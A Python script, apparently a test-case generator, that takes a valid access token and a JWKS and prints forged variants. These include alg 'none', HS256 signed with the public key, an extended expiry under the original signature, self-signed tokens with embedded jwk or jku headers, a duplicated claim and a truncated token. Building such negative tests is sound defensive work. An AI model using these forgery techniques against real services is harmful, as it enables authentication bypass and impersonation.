"""What a forger makes of a good access token, with PyJWT and cryptography.

    forged.py TOKEN JWKS

Prints a JSON object: how it was forged, and the token.
"""

import base64
import hashlib
import hmac
import json
import sys

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

token, jwks = sys.argv[1], json.loads(sys.argv[2])
header, claims = jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
kid = header["kid"]
public = jwt.PyJWK(next(key for key in jwks["keys"] if key["kid"] == kid)).key


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unsigned(header, claims):
    return b64(json.dumps(header).encode()) + "." + b64(json.dumps(claims).encode())


def mac(secret):
    text = unsigned({**header, "alg": "HS256"}, claims)
    return text + "." + b64(hmac.new(secret, text.encode(), hashlib.sha256).digest())


own = ec.generate_private_key(ec.SECP256R1())
longer = {**claims, "exp": claims["exp"] + 86_400}
signature = token.rsplit(".", 1)[1]
doubled = json.dumps(claims)[:-1] + f', "sub": "{claims["sub"]}"}}'
shown = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(own.public_key()))


def by_own(**more):
    return jwt.encode(claims, own, algorithm="ES256", headers={"typ": "at+jwt", "kid": kid, **more})


forged = {
    "token.algorithm none": unsigned({**header, "alg": "none"}, claims) + ".",
    "token.algorithm HS256 with the public key in PEM": mac(
        public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    ),
    "token.algorithm HS256 with the public key in DER": mac(
        public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    ),
    "token.signature a longer life": token.split(".")[0] + "." + b64(json.dumps(longer).encode()) + "." + signature,
    "token.signature a key of the forger's": by_own(),
    "token.unknown_key a key that nobody has": by_own(kid="forged"),
    "token.header a key that is brought along": by_own(jwk=shown),
    "token.header a place of keys": by_own(jku="http://127.0.0.1:1/jwks"),
    "token.malformed a claim twice": token.split(".")[0] + "." + b64(doubled.encode()) + "." + signature,
    "token.malformed cut off": token.rsplit(".", 1)[0],
}
print(json.dumps(forged))
